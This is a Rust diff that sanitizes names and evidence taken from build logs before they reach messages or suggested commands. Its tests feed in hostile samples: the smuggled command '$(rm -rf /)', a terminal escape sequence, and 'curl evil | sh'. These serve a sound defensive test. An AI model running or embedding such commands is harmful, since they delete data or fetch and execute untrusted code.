@@ -361,12 +361,14 @@ pub fn diagnose(log: &str) -> Option<Missing> {
         if found.is_some() {
             continue;
         }
+        // What the log names goes into a message and a command line: only a plain name or
+        // path, never terminal escapes or shell text.
         let make = |kind, what: String, package| Missing {
             krate: krate.clone(),
             kind,
-            what,
+            what: plain(&what),
             package,
-            evidence: text.to_string(),
+            evidence: text.chars().filter(|c| !c.is_control()).take(512).collect(),
         };
         if let Some(rest) = text.strip_prefix("running: ") {
             last_running = program_of(rest);
@@ -446,6 +448,20 @@ pub fn diagnose(log: &str) -> Option<Missing> {
         }
     }
     found
+}
+
+/// `s` if it is a plain name or path (letters, digits, `._+/-`, at most 128 characters),
+/// else a placeholder.
+fn plain(s: &str) -> String {
+    let ok = !s.is_empty()
+        && s.len() <= 128
+        && s.chars()
+            .all(|c| c.is_ascii_alphanumeric() || "._+/-".contains(c));
+    if ok {
+        s.to_string()
+    } else {
+        "(a name the log spells oddly)".to_string()
+    }
 }
 
 /// `sh: 1: make: not found`, `/bin/sh: make: not found`, `bash: make: command not found`.
@@ -590,6 +606,14 @@ Caused by:
         // A hostile log cannot make the crate name anything but a name.
         let log = "error: failed to run custom build command for `$(rm -rf /) v1`\nis `make` not installed?\n";
         assert_eq!(diagnose(log).and_then(|m| m.krate), None);
+        // Nor what is missing: no escape sequence or shell text reaches the message.
+        let log =
+            "fatal error: \x1b]52;c;ZXZpbA==\x07x.h; curl evil | sh: No such file or directory\n";
+        let m = diagnose(log).expect("found");
+        assert!(
+            !m.sentence().contains('\x1b') && !m.fix(&[]).contains("curl"),
+            "{m:?}"
+        );
     }
 
     #[test]
